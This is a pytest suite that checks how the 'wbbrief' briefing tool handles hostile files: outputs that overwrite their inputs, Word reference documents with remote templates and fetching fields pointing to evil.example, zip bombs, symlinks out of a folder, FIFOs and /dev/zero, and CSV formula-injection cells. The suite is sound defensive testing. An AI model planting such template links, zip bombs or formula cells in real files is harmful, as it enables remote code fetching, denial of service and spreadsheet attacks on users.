"""Hostile and unlucky files, round three (issue 22): outputs that are inputs, Word reference
documents, zip bombs, folders with links, FIFOs and devices, binary and Cyrillic CSVs, formulas."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
import tempfile
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import Result

from conftest import load_script
from wbbrief.dataset import loading

Run = Callable[..., Result]
CORRUPTION = "asb-threat-first-corruption"
HEADER = "id,survey,edition,country,topic,question,answer,value,unit,rank,year,source_page,footnote"
REFERENCE = Path(__file__).resolve().parents[1] / "templates" / "reference.docx"


@pytest.fixture(autouse=True)
def _fresh_cache() -> object:
    loading.load_bundle.cache_clear()
    yield
    loading.load_bundle.cache_clear()


def one_line(result: Result, code: int = 1) -> str:
    assert result.exit_code == code, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("wbbrief: error: "), result.stderr
    assert "Traceback" not in result.stderr
    return lines[0]


def row(question: str = "Most serious security threat", answer: str = "Corruption") -> str:
    return f"asb-2023-x,asb,2023,AL,threats,{question},{answer},41.0,percent,,2023,12,"


def wbbrief(*args: str, timeout: float = 60, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """The real command in its own process, with 1 GB of address space at most: what a FIFO or
    /dev/zero does to it cannot hang or exhaust the test run."""

    def limit() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (2 * 1024**3, 2 * 1024**3))

    return subprocess.run(
        [sys.executable, "-m", "wbbrief", *args], capture_output=True, text=True, timeout=timeout,
        preexec_fn=limit, cwd=cwd, env={**os.environ, "COLUMNS": "100", "NO_COLOR": "1"},
    )  # fmt: skip


# --- an output that is an input is refused before anything is read ----------------------------------


def test_render_refuses_to_write_over_its_own_document(run: Run, tmp_path: Path) -> None:
    source = tmp_path / "notes.html"  # Markdown saved with another suffix
    source.write_text(f"# Notes\n\nA {{stat}}`{CORRUPTION}`.\n", encoding="utf-8")
    before = source.read_bytes()
    line = one_line(run("render", str(source), "-o", str(source)), 2)
    assert "notes.html" in line and "also an input" in line
    draft = tmp_path / "draft.pdf"  # no -o: DOC.pdf beside the document is the document itself
    draft.write_text("# Draft\n", encoding="utf-8")
    assert "also an input" in one_line(run("render", str(draft)), 2)
    link = tmp_path / "out.html"
    link.symlink_to(source)
    assert "also an input" in one_line(run("render", str(source), "-o", str(link)), 2)
    assert source.read_bytes() == before and draft.read_text(encoding="utf-8") == "# Draft\n"


def test_exports_refuse_to_write_over_their_reference_doc_data_or_templates(run: Run, tmp_path: Path) -> None:
    house = tmp_path / "house.docx"
    house.write_bytes(REFERENCE.read_bytes())
    assert "also an input" in one_line(run("export-docx", "--reference-doc", str(house), "-o", str(house)), 2)
    assert house.read_bytes() == REFERENCE.read_bytes()
    data = tmp_path / "mine.csv"
    data.write_text(f"{HEADER}\n{row()}\n", encoding="utf-8")
    assert "also an input" in one_line(run("export-html", "--data", str(data), "-o", str(data)), 2)
    templates = tmp_path / "house"
    templates.mkdir()
    (templates / "brief.css").write_text("body { color: black; }\n", encoding="utf-8")
    out = templates / "brief.css"
    assert "also an input" in one_line(run("export-html", "--template-dir", str(templates), "-o", str(out)), 2)
    assert out.read_text(encoding="utf-8") == "body { color: black; }\n"


def test_no_file_read_in_a_run_is_ever_replaced_by_its_output(run: Run, tmp_path: Path) -> None:
    """A data file named in the front matter is known only once the document is read: the
    atomic writer refuses to replace any file the run has read."""
    data = tmp_path / "figures.html"  # any suffix may be named directly
    data.write_text(f"{HEADER}\n{row()}\n", encoding="utf-8")
    document = tmp_path / "brief.md"
    document.write_text(f"---\ndata: figures.html\n---\n\n# B\n\nA {{stat}}`{CORRUPTION}`.\n", encoding="utf-8")
    line = one_line(run("render", str(document), "-o", str(data)), 2)
    assert "also an input" in line
    assert data.read_text(encoding="utf-8").startswith(HEADER)


# --- the Word reference document is untrusted --------------------------------------------------------


def _zip_parts(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


def _rewrite(source: Path, target: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target


def test_a_brief_exported_earlier_as_reference_brings_none_of_its_charts(run: Run, tmp_path: Path) -> None:
    first, second, plain = tmp_path / "first.docx", tmp_path / "second.docx", tmp_path / "plain.docx"
    assert run("export-docx", "-c", "albania", "--date", "2022-12-01", "-o", str(first)).exit_code == 0
    assert run("export-docx", "--date", "2022-12-01", "-o", str(plain)).exit_code == 0
    result = run("export-docx", "--reference-doc", str(first), "--date", "2022-12-01", "-o", str(second))
    assert result.exit_code == 0, result.stderr
    names = _zip_parts(second.read_bytes())
    assert [name for name, n in Counter(names).items() if n > 1] == []

    def media(path: Path) -> dict[str, bytes]:
        with zipfile.ZipFile(path) as archive:
            return {n: archive.read(n) for n in archive.namelist() if n.startswith("word/media/")}

    assert media(second) == media(plain)  # the regional brief's charts, and none of Albania's
    warnings = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(warnings) == 1 and "media files" in warnings[0]


def test_reference_doc_links_templates_and_fields_that_fetch_are_stripped(run: Run, tmp_path: Path) -> None:
    external = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )

    def plant(parts: dict[str, bytes]) -> None:
        parts["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships">' + external + b"</Relationships>"
        )
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"</w:settings>", b'<w:attachedTemplate r:id="rIdX"/></w:settings>'
        )
        rels = parts["word/_rels/document.xml.rels"]
        parts["word/_rels/document.xml.rels"] = rels.replace(b"</Relationships>", external + b"</Relationships>")
        body = b'<w:p><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/p.png" </w:instrText></w:r></w:p>'
        parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + body)
        styles = parts["word/styles.xml"]
        field = b'<w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "/>'
        parts["word/footnotes.xml"] = parts["word/footnotes.xml"].replace(b"</w:footnotes>", field + b"</w:footnotes>")
        parts["word/styles.xml"] = styles

    house = _rewrite(REFERENCE, tmp_path / "house.docx", plant)
    out = tmp_path / "brief.docx"
    result = run("export-docx", "--reference-doc", str(house), "--date", "2022-12-01", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out) as archive:
        everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"evil.example" not in everything
    assert b'TargetMode="External"' not in everything and b"attachedTemplate" not in everything
    assert b"INCLUDEPICTURE" not in everything and b"INCLUDETEXT" not in everything
    warnings = [line for line in result.stderr.splitlines() if "warning" in line]
    assert len(warnings) == 1 and "external links" in warnings[0] and "attached template" in warnings[0]


def _bomb(path: Path, name: str, megabytes: int, base: Path | None = None) -> Path:
    """A zip whose entry ``name`` inflates to ``megabytes`` of spaces (a few KB stored)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        if base is not None:
            with zipfile.ZipFile(base) as source:
                for entry in source.namelist():
                    if entry != name:
                        archive.writestr(entry, source.read(entry))
        with archive.open(name, "w", force_zip64=True) as stream:
            chunk = b" " * (1024 * 1024)
            for _ in range(megabytes):
                stream.write(chunk)
    return path


def test_reference_doc_and_workbook_zip_bombs_are_refused_before_reading(run: Run, tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "house.docx", "word/styles.xml", 300, base=REFERENCE)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    line = one_line(run("export-docx", "--reference-doc", str(bomb), "-o", str(tmp_path / "b.docx")))
    assert "house.docx" in line and ("zip bomb" in line or "limit" in line)
    book = _bomb(tmp_path / "book.xlsx", "xl/worksheets/sheet1.xml", 20)
    result = run("data", "validate", str(book))
    assert result.exit_code == 1 and "book.xlsx" in result.stdout and "zip bomb" in result.stdout
    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w") as archive:
        for n in range(2001):
            archive.writestr(f"xl/part{n}.xml", b"")
    result = run("data", "validate", str(many))
    assert result.exit_code == 1 and "entries" in result.stdout and "Traceback" not in result.stderr


# --- reading outside the folder, and files that never end ---------------------------------------------


def test_data_folder_route_does_not_follow_a_link_out_of_the_documents_folder(run: Run, tmp_path: Path) -> None:
    outside = tmp_path / "secret"
    outside.mkdir()
    (outside / "figures.csv").write_text(f"{HEADER}\n{row()}\n", encoding="utf-8")
    folder = tmp_path / "brief"
    folder.mkdir()
    (folder / "figures.csv").symlink_to(outside / "figures.csv")
    document = folder / "brief.md"
    document.write_text(f"---\ndata: .\n---\n\n# B\n\nA {{stat}}`{CORRUPTION}`.\n", encoding="utf-8")
    line = one_line(run("check", str(document)))
    assert "figures.csv" in line and "outside the folder" in line


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_or_a_device_is_never_read_as_data(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.csv")
    document = tmp_path / "brief.md"
    document.write_text(f"---\ndata: pipe.csv\n---\n\n# B\n\nA {{stat}}`{CORRUPTION}`.\n", encoding="utf-8")
    result = wbbrief("check", str(document), timeout=30)
    assert result.returncode == 1 and "pipe.csv" in result.stderr + result.stdout
    assert "not a regular file" in result.stderr + result.stdout
    zero = wbbrief("data", "validate", "/dev/zero", timeout=30)
    assert zero.returncode == 1 and "/dev/zero: not a regular file" in zero.stdout
    assert "Traceback" not in zero.stderr + result.stderr


def test_data_files_and_documents_larger_than_the_limit_are_refused_naming_it(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from wbbrief.base import limits

    monkeypatch.setattr(limits, "DATA_BYTES", 1000)
    monkeypatch.setattr(limits, "DOCUMENT_BYTES", 1000)
    data = tmp_path / "big.csv"
    data.write_text(f"{HEADER}\n" + f"{row()}\n" * 30, encoding="utf-8")
    result = run("data", "validate", str(data))
    assert result.exit_code == 1 and "big.csv: the data file is larger than the limit of 1000 bytes" in result.stdout
    document = tmp_path / "big.md"
    document.write_text("# Big\n\n" + "Text. " * 400, encoding="utf-8")
    assert "the document is larger than the limit of 1000 bytes" in one_line(run("check", str(document)))


# --- tracebacks, silent corruption, injection ------------------------------------------------------


def test_a_binary_file_given_as_csv_is_one_problem_not_a_traceback(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "noise.csv"
    path.write_bytes(bytes(range(256)))
    result = run("data", "validate", str(path))
    assert result.exit_code == 1 and "noise.csv: this is not text" in result.stdout


def test_windows_1251_is_told_from_windows_1250_and_encoding_can_be_named(run: Run, tmp_path: Path) -> None:
    import json

    question = "Доверба у полицију"
    path = tmp_path / "podaci.csv"
    path.write_bytes(f"{HEADER}\n{row(question, 'Довербa')}\n".encode("cp1251"))
    assert run("data", "validate", str(path)).exit_code == 0
    shown = json.loads(run("figures", "-s", "asb", "-c", "AL", "-d", str(path), "-f", "json").stdout)
    mine = next(r for t in shown["tables"] for r in t["rows"] if r["id"] == "asb-2023-x")
    assert mine["question"] == question
    forced = run("data", "validate", "--encoding", "cp1250", str(path))  # wrong, but the user said so
    assert forced.exit_code == 0
    assert one_line(run("data", "validate", "--encoding", "klingon", str(path)), 2).endswith(
        "unknown encoding 'klingon'; try utf-8, cp1250 (Latin) or cp1251 (Cyrillic)"
    )


def test_an_encoding_that_cannot_be_told_is_said_to_be_a_guess(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "short.csv"  # 'čađ' in Windows-1250 or 'иар' in Windows-1251: three bytes cannot tell
    path.write_bytes(f"{HEADER}\n".encode() + b"asb-2023-x,asb,2023,AL,threats,Q,\xe8\xe0\xf0,41,percent,,2023,12,\n")
    result = run("data", "validate", str(path))
    assert result.exit_code == 0
    assert re.search(r"short\.csv: warning: not UTF-8; read as Windows-125[01] .*--encoding", result.stdout)


def test_cells_a_spreadsheet_would_run_as_formulas_are_refused_on_load(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "mine.csv"
    lines = [row(q) for q in ('"=HYPERLINK(""http://x"",""y"")"', "+1+1", "-2+3", "@SUM(A1)")]
    path.write_text(HEADER + "\n" + "\n".join(lines) + "\n", encoding="utf-8")
    result = run("data", "validate", str(path))
    assert result.exit_code == 1
    assert len(re.findall(r"column 'question': starts with '[=+\-@]', which a spreadsheet", result.stdout)) == 4


def test_a_100000_character_answer_is_refused_naming_file_and_line(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text(f"{HEADER}\n{row(answer='A' * 100_000)}\n", encoding="utf-8")
    line = one_line(run("export-docx", "--data", str(path), "-o", str(tmp_path / "b.docx")))
    assert "long.csv, line 2, column 'answer': the answer is 100,000 characters long" in line
    assert not (tmp_path / "b.docx").exists()


def test_a_9_mb_document_and_a_9_mb_image_stay_far_under_1_gb() -> None:
    """scripts/peak_memory.py measures every worst case (about 3 minutes); these two are quick."""
    module = load_script("peak_memory")
    with tempfile.TemporaryDirectory() as folder:
        peak, _, code, last = module.measure(module.too_big_doc(Path(folder)))
    assert code == 1 and "larger than the limit of 1 MB" in last and peak < 200
    with tempfile.TemporaryDirectory() as folder:
        peak, _, code, _ = module.measure(module.image_html(Path(folder)))
    assert code == 0 and peak < 1024


def test_cell_rules_at_their_edges() -> None:
    from wbbrief.dataset.cells import cell_problem

    assert cell_problem("answer", "A" * 2000) is None
    assert cell_problem("answer", "A" * 2001) == "the answer is 2,001 characters long; the limit is 2,000"
    assert cell_problem("answer", "Minus -5 points") is None
    assert cell_problem("answer", "-5") == (
        "starts with '-', which a spreadsheet would run as a formula; remove it, or start the text another way"
    )


def test_standard_output_is_never_an_input(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from wbbrief.base.samefile import refuse_input_as_output

    monkeypatch.chdir(tmp_path)
    (tmp_path / "-").write_text("a file named '-'", encoding="utf-8")
    refuse_input_as_output(Path("-"), [tmp_path / "-"])  # '-' is standard output, not that file
    refuse_input_as_output(None, [tmp_path / "-"])
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "a.csv").write_text("x", encoding="utf-8")
    (folder / "b.csv").write_text("y", encoding="utf-8")
    with pytest.raises(Exception, match="also an input"):
        refuse_input_as_output(folder / "b.csv", [folder])  # a file inside an input folder
